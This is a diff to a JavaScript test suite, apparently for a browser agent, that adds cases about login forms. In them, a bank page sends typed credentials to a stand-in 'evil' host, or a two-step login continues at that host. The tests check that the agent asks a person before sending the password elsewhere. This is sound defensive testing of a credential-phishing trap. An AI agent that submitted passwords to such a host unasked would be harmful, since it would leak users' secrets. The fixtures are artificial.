@@ -26,18 +26,74 @@ describe('a log-in that is none of these', () => {
     expect(traps.world.sentTo('bank')).toContain(`p=${password}`);
   });
 
-  test('that sends to another host is done when a person agrees to it by name', async () => {
-    const told = await traps.tryTask(
-      { bank: { '/login': title + form('{evil}/collect') }, evil: { '/collect': '<h1>Welcome</h1>' } },
-      'Open {bank}/login, log in and list the headings',
-      { answers: [both, 'yes'] },
-    );
-    expect(told.questions[1]).toMatch(
+  const elsewhere = {
+    bank: { '/login': title + form('{evil}/collect') },
+    evil: { '/collect': '<h1>Welcome</h1>' },
+  };
+
+  test.each([
+    ['an answer', { answers: [both, 'yes'] }],
+    ['a secret for its own host', { secrets: secretFor('bank.localhost'), answers: ['yes'] }],
+    // Who allows it at any host has named none: a page could send it wherever it likes.
+    ['a secret for all hosts', { secrets: secretFor('all'), answers: ['yes'] }],
+    [
+      'a secret for its own host beside one for the other',
+      {
+        secrets: [
+          ...secretFor('bank.localhost'),
+          { match: 'evil.localhost', fields: { username: 'mallory', password: 'another-1' } },
+        ],
+        answers: ['yes'],
+      },
+    ],
+  ])('with %s that sends to another host is done when a person agrees to it by name', async (_what, cue) => {
+    const told = await traps.tryTask(elsewhere, 'Open {bank}/login, log in and list the headings', cue);
+    expect(told.questions.at(-1)).toMatch(
       /^The form at bank\.localhost:\d+ sends what is typed to evil\.localhost:\d+\./u,
     );
     expect(told.message).toContain('Welcome');
     expect(traps.world.sentTo('evil')).toContain(`p=${password}`);
   });
+
+  test('with a secret whose pattern names both hosts is done without a question', async () => {
+    const told = await traps.tryTask(elsewhere, 'Open {bank}/login, log in and list the headings', {
+      secrets: secretFor('*.localhost'),
+    });
+    expect(told.questions).toEqual([]);
+    expect(told.message).toContain('Welcome');
+  });
+
+  // The second step may be at a host of its own, as where another service keeps the passwords.
+  const inTwoPlaces = {
+    bank: {
+      '/login': `${title}<form action="/next"><label>User name <input name="u"></label><button>Next</button></form>`,
+      '/next': '->{evil}/step',
+    },
+    evil: {
+      '/step': `${title}<form method="post" action="/in"><label>Password <input type="password" name="p"></label><button>Log in</button></form>`,
+      '/in': '<h1>Welcome</h1>',
+    },
+  };
+
+  test.each([
+    ['no', 'LOGIN_REFUSED'],
+    ['yes', null],
+  ])(
+    'with a secret for all hosts goes on at another one only if a person agrees: %s',
+    async (answer, code) => {
+      const told = await traps.tryTask(inTwoPlaces, 'Open {bank}/login, log in and list the headings', {
+        secrets: secretFor('all'),
+        answers: [answer],
+      });
+      expect(told.questions).toEqual([
+        expect.stringMatching(
+          /^The log-in began at bank\.localhost:\d+ and goes on at evil\.localhost:\d+\. Shall I type the password there\?/u,
+        ),
+      ]);
+      expect(told.code).toBe(code);
+      expect(traps.world.sentTo('evil').includes(password)).toBe(code === null);
+    },
+  );
 
   test('is not called done when the page says that it failed', async () => {
     const told = await traps.tryTask(
